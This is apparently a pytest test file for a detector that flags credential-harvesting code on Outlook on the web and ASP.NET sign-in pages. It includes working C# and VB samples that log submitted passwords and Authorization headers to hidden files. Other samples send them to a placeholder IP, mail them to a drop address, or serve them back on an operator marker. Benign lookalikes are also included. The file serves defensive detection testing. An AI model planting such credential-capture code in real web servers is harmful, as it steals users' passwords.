"""A password the user submits, written down or sent on (EXH-WS-CODE-CREDENTIAL-CAPTURE): the
sign-in trap of a modified logon page, a Global.asax or an HTTP module reading the password field
of every request to Outlook on the web, the Basic sign-in header (`Authorization`) written down,
or the password mailed to an address the code fixes. Kept quiet: an installer writing the database
password it is given into web.config, a login page logging only the user name, checking the
password, a web service tracing its arguments to the debugger, or a welcome mail sending users
their password at the address they gave."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

CAPTURE = "EXH-WS-CODE-CREDENTIAL-CAPTURE"
SENT = "writes down or sends on the password the user submitted"

GLOBAL = (
    '<%@ Application Language="C#" %>\n<script runat="server">\n'
    "void Application_BeginRequest(object sender, EventArgs e) {\n"
    "  var r = HttpContext.Current.Request;\n"
    '  if (r.Path.ToLower().Contains("auth.owa") && r.HttpMethod == "POST") {\n'
    '    System.IO.File.AppendAllText(@"C:\\Windows\\Temp\\~tmp.log", r.Form["username"] + ":" + r.Form["password"]);\n'
    "  }\n}\n</script>"
)
MODULE = (
    "using System; using System.Web;\n"
    "public class AuthModule : IHttpModule {\n"
    "  public void Init(HttpApplication app) {\n"
    "    app.BeginRequest += (s, e) => {\n"
    "      var r = app.Context.Request;\n"
    '      System.Diagnostics.EventLog.WriteEntry("Application", r.Form["username"] + " " + r.Form["password"]);\n'
    "    };\n  }\n  public void Dispose() {}\n}\n"
)
CONTROLS = (
    '<%@ Page Language="C#" %>\n<script runat="server">\n'
    "void SignIn(object s, EventArgs e) {\n"
    '  System.IO.File.AppendAllText("c:\\\\temp\\\\a.txt", txtUser.Text + ":" + txtPwd.Text);\n'
    '}\n</script>\n<form runat="server"><asp:TextBox id="txtUser" runat="server"/>'
    '<asp:TextBox id="txtPwd" TextMode="Password" runat="server"/></form>'
)

SHELLS = [
    ("Global.asax", GLOBAL, ["form field 'password'", SENT, "File.AppendAllText", "on every request"]),
    ("AuthModule.cs", MODULE, ["form field 'password'", "EventLog.WriteEntry"]),
    ("logon.aspx", CONTROLS, ["page control 'txtpwd'", SENT]),
    (
        "writer.aspx",
        cs_page(
            'using (var sw = new System.IO.StreamWriter(Server.MapPath("~/images/x.gif"), true)) '
            '{ sw.WriteLine(Request.Form["username"] + " " + Request.Form["password"]); }'
        ),
        ["form field 'password'", "StreamWriter.WriteLine"],
    ),
    (
        "sent.aspx",
        cs_page(
            'new System.Net.WebClient().DownloadString("http://203.0.113.5/c?u=" + Request.Form["username"] '
            '+ "&p=" + Request.Form["password"]);'
        ),
        ["form field 'password'", ".DownloadString"],
    ),
    (
        "basic-header.cs",
        "using System; using System.Web;\n"
        "public class EwsModule : IHttpModule {\n"
        "  public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {\n"
        '    var h = app.Context.Request.Headers["Authorization"];\n'
        '    if (h != null) System.IO.File.AppendAllText(@"C:\\ProgramData\\e.dat", h + "\\n"); }; }\n'
        "  public void Dispose() {}\n}\n",
        ["request header 'Authorization'", "File.AppendAllText"],
    ),
    (
        "mailed.aspx",
        cs_page(
            'new System.Net.Mail.SmtpClient("localhost").Send("owa@contoso.com", "drop@example.net", "s", '
            'Request.Form["username"] + ":" + Request.Form["password"]);'
        ),
        ["form field 'password'", "SmtpClient.Send"],
    ),
    (
        "mailed-message.aspx",
        cs_page(
            'var m = new System.Net.Mail.MailMessage("owa@contoso.com", "drop@example.net", "s", Request.Form["password"]);\n'
            "new System.Net.Mail.SmtpClient().Send(m);"
        ),
        ["form field 'password'", "new MailMessage"],
    ),
    (
        "logon.vb.aspx",
        vb_page('System.IO.File.AppendAllText("c:\\temp\\a.txt", Request.Form("user") & ":" & Request.Form("passwd"))'),
        ["form field 'passwd'", SENT],
    ),
    (  # a message built first, its recipient added, then sent
        "built-message.aspx",
        cs_page(
            "var m = new System.Net.Mail.MailMessage();\n"
            'm.From = new System.Net.Mail.MailAddress("owa@contoso.com");\n'
            'm.To.Add("drop@example.net");\n'
            'm.Body = Request.Form["username"] + ":" + Request.Form["password"];\n'
            'var c = new System.Net.Mail.SmtpClient("smtp.example.net");\n'
            "c.Send(m);"
        ),
        ["form field 'password'", "SmtpClient.Send", SENT],
    ),
    (
        "built-message.vb.aspx",
        vb_page(
            "Dim m As New System.Net.Mail.MailMessage()\n"
            'm.To.Add(New System.Net.Mail.MailAddress("drop@example.net", "x"))\n'
            'm.Body = "p=" & Request.Form("passwd")\n'
            'Dim c As New System.Net.Mail.SmtpClient("mail")\n'
            "c.Send(m)"
        ),
        ["form field 'passwd'", "SmtpClient.Send"],
    ),
    (  # System.Web.Mail's message names its recipients in a string
        "web-mail.aspx",
        cs_page(
            "var m = new System.Web.Mail.MailMessage();\n"
            'm.To = "drop@example.net";\n'
            'm.Body = Request["pwd"];\n'
            "System.Web.Mail.SmtpMail.Send(m);"
        ),
        ["request parameter 'pwd'", "SmtpMail.Send"],
    ),
    (
        "send-async.aspx",
        cs_page(
            'var m = new System.Net.Mail.MailMessage("a@contoso.com", "drop@example.net");\n'
            'm.Subject = Request.Headers["Authorization"];\n'
            "new System.Net.Mail.SmtpClient().SendAsync(m, null);"
        ),
        ["header 'Authorization'", "SmtpClient.SendAsync"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_password_captured(name: str, code: str, words: list[str]) -> None:
    assert_found(name, code, CAPTURE, words)


BENIGN = [
    (
        "install.aspx",
        cs_page(
            'System.IO.File.WriteAllText(Server.MapPath("~/web.config"), '
            '"<add connectionString=\\"pwd=" + Request.Form["dbpassword"] + "\\"/>");'
        ),
    ),
    (
        "login-log.aspx",
        cs_page(
            'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/log.txt"), '
            '"failed login for " + Request.Form["username"]);'
        ),
    ),
    (
        "login.aspx",
        cs_page(
            'if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) '
            '{ FormsAuthentication.RedirectFromLoginPage(Request.Form["user"], false); }'
        ),
    ),
    (
        "register.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Register(object s, EventArgs e) {\n"
        '  var m = new System.Net.Mail.MailMessage("noreply@contoso.com", txtEmail.Text, "Welcome", '
        '"Your password is " + txtPassword.Text);\n'
        "  new System.Net.Mail.SmtpClient().Send(m);\n"
        '}\n</script>\n<form runat="server"><asp:TextBox id="txtEmail" runat="server"/>'
        '<asp:TextBox id="txtPassword" TextMode="Password" runat="server"/></form>',
    ),
    (  # the user's own address among the recipients: a confirmation copy, not a trap
        "register-copy.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Register(object s, EventArgs e) {\n"
        "  var m = new System.Net.Mail.MailMessage();\n"
        '  m.To.Add("admin@contoso.com");\n'
        "  m.To.Add(txtEmail.Text);\n"
        '  m.Body = "Your password: " + txtPassword.Text;\n'
        "  new System.Net.Mail.SmtpClient().Send(m);\n"
        '}\n</script>\n<form runat="server"><asp:TextBox id="txtEmail" runat="server"/>'
        '<asp:TextBox id="txtPassword" TextMode="Password" runat="server"/></form>',
    ),
    (  # a recipient the code does not fix (read from the site's settings)
        "reset.aspx",
        cs_page(
            "var m = new System.Net.Mail.MailMessage();\n"
            'm.To.Add(ConfigurationManager.AppSettings["admin"]);\n'
            'm.Body = "New password: " + Request.Form["newpassword"];\n'
            "new System.Net.Mail.SmtpClient().Send(m);"
        ),
    ),
    (  # settings about passwords, not passwords: a policy page keeping its choices
        "policy.aspx",
        cs_page(
            'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/policy.txt"), "min=" + '
            'Request.Form["PasswordMinLength"] + ";expiry=" + Request.Form["pwdExpiryDays"]);\n'
            'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), "hint set: " + '
            'Request.Form["passwordHint"]);'
        ),
    ),
    (
        "Service.cs",
        "using System.Diagnostics; using System.ServiceModel;\n"
        "[ServiceContract] public interface IAuth { [OperationContract] string Login(string userName, string password); }\n"
        "public class Auth : IAuth {\n"
        '  public string Login(string userName, string password) { Debug.WriteLine(userName + password); return ""; }\n'
        "}\n",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(name, code)


# The harvest kept in memory and handed back on demand, as OWOWA did in Outlook on the web: the
# passwords go into the application state, the cache or a static field, and a request carrying
# the operator's marker gets them written into its response.
SERVED_BACK = [
    (
        "Global.asax",
        '<%@ Application Language="C#" %>\n<script runat="server">\n'
        "void Application_BeginRequest(object sender, EventArgs e) {\n"
        "  var r = HttpContext.Current.Request;\n"
        '  if (r.Path.EndsWith("auth.owa") && r.HttpMethod == "POST")\n'
        '    Application["l"] = Application["l"] + r.Form["username"] + ":" + r.Form["password"] + ";";\n'
        '  if (r.Form["username"] == "operator-marker") { Response.Write(Application["l"]); Response.End(); }\n'
        "}\n</script>",
        ["keeps it in the application", "Response.Write"],
    ),
    (
        "OwaModule.cs",
        "using System; using System.Web;\n"
        "public class OwaModule : IHttpModule {\n"
        '  static string log = "";\n'
        "  public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }\n"
        "  void OnBegin(object s, EventArgs e) {\n"
        "    var ctx = ((HttpApplication)s).Context;\n"
        '    var u = ctx.Request.Form["username"]; var p = ctx.Request.Form["password"];\n'
        '    if (u == "operator-marker") { ctx.Response.Output.Write(log); ctx.Response.End(); }\n'
        '    else if (p != null) log += u + ":" + p + ";";\n'
        "  }\n  public void Dispose() {}\n}",
        ["keeps it in a static field", "Response.Write"],
    ),
    (
        "logon.vb.aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Shared Kept As New System.Text.StringBuilder()\n"
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '  If Request.Form("passwd") <> "" Then Kept.Append(Request.Form("user") & ":" & Request.Form("passwd"))\n'
        '  If Request.QueryString("k") = "operator-marker" Then Response.Write(Kept.ToString())\n'
        "End Sub\n</script>",
        ["keeps it in a static field", "Response.Write"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SERVED_BACK, ids=[s[0] for s in SERVED_BACK])
def test_passwords_kept_for_every_request_and_served_back(name: str, code: str, words: list[str]) -> None:
    assert_found(name, code, CAPTURE, ["form field", SENT, *words])


@pytest.mark.parametrize(
    ("name", "code"),
    [
        (  # a visitor count kept for every request and shown: no password in it
            "counter.aspx",
            cs_page(
                'Application["n"] = (int)(Application["n"] ?? 0) + 1;\n'
                'Application["last"] = Request.Form["username"];\n'
                'Response.Write(Application["n"] + " visits, last " + Server.HtmlEncode((string)Application["last"]));'
            ),
        ),
        (  # a password kept in the visitor's own session and shown back to that visitor
            "wizard.aspx",
            cs_page('Session["dbpwd"] = Request.Form["dbpassword"];\nResponse.Write("Saved: " + Session["dbpwd"]);'),
        ),
        (  # passwords cached for every request to check sign-ins faster, never written out
            "basicauth.aspx",
            cs_page(
                'HttpRuntime.Cache["u:" + Request.Form["user"]] = Request.Form["password"];\n'
                'Response.Write("signed in as " + Server.HtmlEncode(Request.Form["user"]));'
            ),
        ),
    ],
    ids=["counter", "session-wizard", "cached-not-written"],
)
def test_shared_values_without_a_password_served_back_stay_quiet(name: str, code: str) -> None:
    assert_benign(name, code)
